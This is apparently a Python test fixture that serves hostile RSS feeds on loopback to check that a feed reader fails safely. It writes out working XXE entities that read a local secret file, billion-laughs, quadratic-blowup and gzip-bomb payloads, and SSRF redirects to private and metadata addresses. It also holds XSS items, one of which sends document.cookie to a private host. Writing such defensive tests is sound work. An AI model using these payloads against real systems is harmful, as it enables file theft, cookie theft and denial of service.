"""Hostile feeds, served on loopback: each is a route of a ``LoopbackServer`` and the error it must end in.

Large and endless bodies are generated while they are sent (never held in memory); the server stops
when the client hangs up, and records how much it managed to send. Every URL an external entity or
DTD names is a ``/hit/...`` path of the same server, so a test can prove nothing ever asked for it.
"""

from __future__ import annotations

import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from http.server import BaseHTTPRequestHandler
from pathlib import Path

from tests.loopback import LoopbackServer, Route

MB = 1024 * 1024
HUGE_BYTES = 200 * MB
BOMB_BYTES = 256 * MB  # what the gzip bomb inflates to
DRIP_SECONDS = 60.0  # the drip gives up by itself after this, whatever the client does


def rss(items: str, *, prolog: str = "", title: str = "hostile") -> bytes:
    return (f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0" '
            f'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>{title}</title>'
            f"<link>http://hostile.example.org/</link>{items}</channel></rss>").encode()


ITEM = ('<item><title>Story {n} &xxe;</title><link>http://hostile.example.org/{n}</link>'
        '<guid>urn:hostile:{n}</guid><description>Text {n} &xxe;</description></item>')


def laughs(levels: int = 10) -> str:
    decls = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)]
    return f"<!DOCTYPE rss [{''.join(decls)}]>"


@dataclass
class Served:
    """What a streaming route managed to send before the client hung up."""

    sent: dict[str, int] = field(default_factory=dict)


def _stream(served: Served, name: str, chunks: Callable[[], object], *, headers: dict[str, str],
            chunked: bool) -> Callable[[BaseHTTPRequestHandler], None]:
    def handler(req: BaseHTTPRequestHandler) -> None:
        req.close_connection = True
        req.send_response(200)
        for k, v in headers.items():
            req.send_header(k, v)
        if chunked:
            req.send_header("Transfer-Encoding", "chunked")
        req.end_headers()
        sent = 0
        try:
            for chunk in chunks():  # type: ignore[attr-defined]
                if chunked:
                    req.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                else:
                    req.wfile.write(chunk)
                req.wfile.flush()
                sent += len(chunk)
        except OSError:
            pass  # the client hung up: exactly what should happen
        finally:
            served.sent[name] = served.sent.get(name, 0) + sent

    return handler


def _huge_chunks():
    item = b"<item><title>padding</title><description>" + b"x" * 900 + b"</description></item>"
    block = item * (64 * 1024 // len(item))
    yield rss("").split(b"</channel>")[0]
    sent = 0
    while sent < HUGE_BYTES:
        yield block
        sent += len(block)


@cache
def gzip_bomb() -> bytes:
    """A gzip stream that inflates to ``BOMB_BYTES`` (about 256 kB on the wire)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = b"\0" * MB
    parts = [comp.compress(rss("").split(b"</channel>")[0] + b"<!--")]
    parts += [comp.compress(zeros) for _ in range(BOMB_BYTES // MB)]
    parts.append(comp.flush())
    return b"".join(parts)


def _drip_chunks():
    yield rss("").split(b"</channel>")[0]
    deadline = time.monotonic() + DRIP_SECONDS
    while time.monotonic() < deadline:
        time.sleep(0.2)
        yield b" "


@dataclass(frozen=True)
class Hostile:
    name: str  # the feed's name and its path on the server
    kind: str  # the error kind the feed must end in
    what: str  # for the report


def install(server: LoopbackServer, secret_file: Path) -> tuple[list[Hostile], Served]:
    """Register every hostile route on ``server``; returns the feeds and the streaming record."""
    served = Served()
    hit = server.url("/hit")
    xml = {"Content-Type": "application/rss+xml; charset=utf-8"}
    routes: dict[str, tuple[Route, str, str]] = {
        "xxe-http": (Route(body=rss(ITEM.format(n=1), prolog=f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{hit}/xxe">]>'),
                           headers=xml), "unsafe_dtd", "XXE: external entity on a loopback URL"),
        "xxe-file": (Route(body=rss(ITEM.format(n=2), prolog=(
            f'\n<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file://{secret_file}">\n]>\n')), headers=xml),
            "unsafe_dtd", "XXE: external entity on a local file"),
        "xxe-parameter": (Route(body=rss(ITEM.format(n=3).replace("&xxe;", ""), prolog=(
            f'<!DOCTYPE rss [<!ENTITY % pe SYSTEM "{hit}/pe"> %pe; <!ENTITY xxe SYSTEM "{hit}/ge">]>')),
            headers=xml), "unsafe_dtd", "external parameter entity and external general entity"),
        "billion-laughs": (Route(body=rss(ITEM.format(n=4).replace("&xxe;", "&lol9;"), prolog=laughs()),
                                 headers=xml), "unsafe_dtd", "billion laughs (10 levels of 10)"),
        "quadratic-blowup": (Route(body=rss(ITEM.format(n=5).replace("&xxe;", "&big;" * 20000),
                                            prolog=f'<!DOCTYPE rss [<!ENTITY big "{"A" * 1000}">]>'),
                                   headers=xml), "unsafe_dtd", "quadratic blowup (1 kB entity used 40,000 times)"),
        "huge-declared": (Route(handler=_stream(served, "huge-declared", _huge_chunks, chunked=False,
                                                headers={**xml, "Content-Length": str(HUGE_BYTES)})),
                          "too_large", "200 MB body with its Content-Length"),
        "huge-chunked": (Route(handler=_stream(served, "huge-chunked", _huge_chunks, chunked=True, headers=xml)),
                         "too_large", "200 MB body, chunked, no length"),
        "gzip-bomb": (Route(body=gzip_bomb(), headers={**xml, "Content-Encoding": "gzip"}), "too_large",
                      "gzip bomb (256 kB inflating to 256 MB)"),
        "slow-drip": (Route(handler=_stream(served, "slow-drip", _drip_chunks, chunked=True, headers=xml)),
                      "timeout", "endless drip, one byte every 0.2 s"),
        "binary-junk": (Route(body=bytes(range(256)) * 64, headers=xml), "not_a_feed", "binary junk"),
        "html-page": (Route(body=b"<!doctype html><html><head><title>Login</title></head><body><form>"
                            b"<input name=user></form><script>alert(1)</script></body></html>",
                            headers={"Content-Type": "text/html; charset=utf-8"}), "not_a_feed", "an HTML page"),
        "empty-200": (Route(body=b"", headers=xml), "not_a_feed", "an empty 200"),
        "redirect-loop": (Route(status=302, headers={"Location": "/redirect-loop-2"}), "redirect", "a redirect loop"),
        "redirect-private": (Route(status=302, headers={"Location": "http://10.0.0.1/feed.xml"}),
                             "redirect_blocked", "redirect to http://10.0.0.1/"),
        "redirect-metadata": (Route(status=301, headers={"Location": "http://169.254.169.254/latest/meta-data/"}),
                              "redirect_blocked", "redirect to the link-local metadata address"),
        "redirect-ipv6-ula": (Route(status=307, headers={"Location": "http://[fd00::1]:8080/feed.xml"}),
                              "redirect_blocked", "redirect to an IPv6 unique-local address"),
        "redirect-mapped": (Route(status=302, headers={"Location": "http://[::ffff:192.168.1.1]/feed.xml"}),
                            "redirect_blocked", "redirect to an IPv4-mapped private address"),
        "redirect-file": (Route(status=302, headers={"Location": f"file://{secret_file}"}), "redirect",
                          "redirect to a file: URL"),
    }
    server.routes["/redirect-loop-2"] = Route(status=302, headers={"Location": "/redirect-loop"})
    feeds = []
    for name, (route, kind, what) in routes.items():
        server.routes[f"/{name}"] = route
        feeds.append(Hostile(name, kind, what))
    return feeds, served


# Valid feeds whose entries carry markup and control characters: indexed, as plain text only.
INJECTION_ITEMS = [
    ("urn:inject:script", "Minister &lt;script&gt;alert('t')&lt;/script&gt; resigns",
     "<![CDATA[<p>Officials met on Monday.<script>fetch('http://10.0.0.1/?c='+document.cookie)</script> "
     "The talks went on.</p>]]>"),
    ("urn:inject:html", "Storm &lt;b onmouseover=alert(1)&gt;warning&lt;/b&gt; issued",
     "<![CDATA[<p>Rain fell <img src=x onerror=alert(2)> across the region "
     "<iframe src=\"javascript:alert(3)\"></iframe><a href=\"javascript:alert(4)\">more</a>.</p>"
     "<style>body{display:none}</style><object data=\"http://10.0.0.1/x.swf\"></object>]]>"),
    ("urn:inject:control", "Market\u0007 report\u001b[31m red\u202e tfel",
     "<![CDATA[<p>Shares\u0000 rose\u0008 two\u000b per cent\u001b[0m on\u200b Tuesday.</p>]]>"),
]
VISIBLE_WORDS = {"urn:inject:script": ["Officials met on Monday.", "The talks went on."],
                 "urn:inject:html": ["Rain fell", "across the region"],
                 "urn:inject:control": ["Shares", "rose", "per cent", "Tuesday"]}


def injection_feed() -> bytes:
    items = "".join(f"<item><title>{title}</title><link>http://inject.example.org/{i}</link><guid>{guid}</guid>"
                    f"<description>{body}</description><content:encoded>{body}</content:encoded></item>"
                    for i, (guid, title, body) in enumerate(INJECTION_ITEMS))
    return rss(items, title="Injection Wire")


# Declared UTF-8, with bytes that are not: feedparser reads the feed in another encoding and says so.
INVALID_UTF8 = (b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Mixed</title>'
                b"<item><title>Caf\xe9 talks \xff\xfe resume</title><link>http://mixed.example.org/1</link>"
                b"<guid>urn:invalid-utf8:1</guid><description>Talks \xc3\x28 resumed on Friday.</description>"
                b"</item></channel></rss>")
